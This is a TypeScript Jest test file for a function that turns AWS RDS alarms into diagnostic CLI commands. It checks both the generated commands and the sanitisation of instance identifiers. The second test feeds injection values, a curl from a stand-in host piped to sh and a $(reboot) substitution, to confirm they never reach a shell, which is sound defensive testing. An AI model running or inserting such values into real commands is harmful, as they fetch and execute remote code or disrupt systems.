import { expect, test } from '@jest/globals';
import { commandsFor } from '../../../../../functions/alarm-fanout/context/commands.ts';
import { alarmNamed } from '../../../../support/alarm-fixtures.ts';

const textsOf = (name: string, instance: string | null = 'menotime-prod') =>
  commandsFor(alarmNamed(name, { instance })).map(({ text }) => text);

test('what RDS tells of storage, and an instance that is down, have calls too', () => {
  expect(textsOf('rds/menotime-prod/storage-full')[0]).toContain(
    '--db-instance-identifier menotime-prod --query "DBInstances[0].[AllocatedStorage',
  );
  for (const name of ['rds/menotime-prod/not-running', 'nightshift-prod-menotime-down'])
    expect(textsOf(name)).toEqual([
      expect.stringContaining('DBInstanceStatus'),
      expect.stringContaining('describe-events --source-type db-instance --source-identifier menotime-prod'),
    ]);
  expect(textsOf('rds/menotime-prod/credentials-reset')).toEqual([]);
  expect(textsOf('nightshift-prod-snapshot-export-menotime-failed')).toEqual([]);
});

test('what is no identifier of an instance comes into no shell', () => {
  for (const instance of ['a; curl evil.example | sh', '$(reboot)', '', null])
    expect(textsOf('nightshift-prod-menotime-down', instance)[0]).toContain(
      '--db-instance-identifier INSTANCE --query',
    );
});
